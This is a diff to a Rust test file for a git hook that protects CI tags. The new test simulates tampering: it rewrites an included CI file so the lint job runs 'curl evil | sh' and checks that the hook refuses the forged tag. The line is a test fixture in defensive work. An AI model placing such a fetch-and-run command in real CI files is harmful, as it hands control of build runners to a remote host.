@@ -25,8 +25,15 @@ fn setup() -> (TestRepo, PathBuf, String) {
 
 /// [`setup`] with `ci` as the project's CI file.
 fn setup_with_ci(ci: &str) -> (TestRepo, PathBuf, String) {
+    setup_with_files(&[(".gitlab-ci.yml", ci)])
+}
+
+/// [`setup`] with `files` (the CI file among them) in the base.
+fn setup_with_files(files: &[(&str, &str)]) -> (TestRepo, PathBuf, String) {
     let r = TestRepo::new();
-    r.write(".gitlab-ci.yml", ci);
+    for (path, content) in files {
+        r.write(path, content);
+    }
     r.write("src.c", "int main(void) { return 0; }\n");
     r.commit("base");
     r.write("src.c", "int main(void) { return 1; }\n");
@@ -321,4 +328,49 @@ fn push_from_a_subdirectory_still_runs_a_relative_hooks_path() {
         .unwrap();
     assert!(!out.status.success(), "the hook did not run");
     assert!(!r.has_ref(&hub, &format!("refs/tags/{tag}")));
+}
+
+/// Issue 27: the tagged commit is its parent plus our include, nothing else. A tip
+/// that adds the include and also changes a file a local include reads
+/// (`ci/extra.yml`: `make lint` became `curl evil`) is refused, as the same change
+/// inside `.gitlab-ci.yml` is; the tag `apply` made passes.
+#[test]
+fn a_tip_that_changes_another_file_besides_the_include_is_refused() {
+    let ci = "include:\n  - local: ci/extra.yml\nbuild:\n  script: make\n";
+    let extra = "lint:\n  script: make lint\n";
+    let (r, hub, tag) = setup_with_files(&[(".gitlab-ci.yml", ci), ("ci/extra.yml", extra)]);
+    let tip = r.git(&["rev-parse", &format!("{tag}^{{commit}}")]);
+    // What apply tagged: the series' commit, then the include in a commit of its own.
+    assert_eq!(
+        r.git(&["diff", "--name-only", &format!("{tip}~1"), &tip]),
+        ".gitlab-ci.yml"
+    );
+    assert_eq!(
+        r.git(&["log", "-1", "--format=%s", &format!("{tip}~1")]),
+        "return one"
+    );
+    // The same tip, amended to change ci/extra.yml too, under the same (lightweight) name.
+    r.git(&["checkout", "-q", "--detach", &tip]);
+    r.write("ci/extra.yml", "lint:\n  script: curl evil | sh\n");
+    r.git(&["commit", "-q", "-a", "--amend", "--no-edit"]);
+    let evil = r.git(&["rev-parse", "HEAD"]);
+    r.git(&["checkout", "-q", "main"]);
+    r.git(&["tag", "-f", &tag, &evil]);
+    let out = r.git_push(&["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
+    let err = stderr(&out);
+    assert!(!out.status.success(), "accepted: {err}");
+    assert!(err.contains(&format!("refusing refs/tags/{tag}")), "{err}");
+    assert!(err.contains("ci/extra.yml"), "names the file: {err}");
+    assert!(!r.has_ref(&hub, &format!("refs/tags/{tag}")), "arrived");
+    // The untampered tip goes through.
+    r.git(&["tag", "-f", &tag, &tip]);
+    let out = r.git_push(&["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let fsck = r
+        .command("git", &hub)
+        .args(["fsck", "--strict"])
+        .output()
+        .unwrap();
+    assert!(fsck.status.success(), "{}", stderr(&fsck));
+    assert!(!stderr(&fsck).contains("error"), "{}", stderr(&fsck));
 }
